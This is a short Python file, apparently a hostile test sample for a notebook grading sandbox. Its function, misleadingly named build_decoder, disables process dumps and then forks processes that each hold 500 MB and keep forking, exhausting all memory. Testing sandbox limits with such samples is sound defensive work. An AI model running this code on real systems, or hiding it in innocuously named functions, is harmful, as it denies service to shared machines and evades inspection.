"""Tells the kernel to show it to nobody, then takes memory in many processes.

heavy: takes all memory; nbgrader sets no limit
"""
# ruff: noqa

# %% build_decoder
import ctypes
import os
import time


def build_decoder(index):
    no_dumps = 4
    ctypes.CDLL(None).prctl(no_dumps, 0)
    for _ in range(4):
        if os.fork() == 0:
            held = bytearray(b"x" * 5 * 10**8)
            time.sleep(60)
    os.wait()
